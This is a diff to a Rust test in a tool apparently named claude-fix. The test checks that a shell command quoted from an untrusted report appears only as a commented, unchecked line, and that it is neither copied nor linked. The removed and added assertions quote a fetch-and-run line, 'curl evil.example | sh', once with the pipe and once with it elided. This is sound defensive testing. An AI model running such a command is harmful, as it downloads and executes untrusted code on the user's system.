@@ -68,7 +68,7 @@ fn a_command_of_a_report_is_marked_and_neither_copied_nor_led_to() {
     state.screen = Screen::Step(crate::model::step::Step::ApiKey);
     let text = seen(&state);
     assert!(!text.contains("https://evil"), "{text}");
-    assert!(text.contains("# from a report, not checked: curl evil.example | sh"), "{text}");
+    assert!(text.contains("# from a report, not checked: curl evil.example … sh"), "{text}");
     assert!(text.contains("this claude-fix does not know"), "{text}");
     let code = crate::words::codes::of("key.rejected").unwrap();
     assert!(text.contains(&format!("claude-fix explain {code}")), "{text}");
@@ -80,7 +80,7 @@ fn a_command_of_a_report_is_marked_and_neither_copied_nor_led_to() {
         }
     }
     let printed = crate::headless::replay::from_elsewhere(report);
-    assert_eq!(&*printed.repairs[0].manual[0], "# from a report, not checked: curl evil.example | sh");
+    assert_eq!(&*printed.repairs[0].manual[0], "# from a report, not checked: curl evil.example … sh");
 }
 
 #[test]
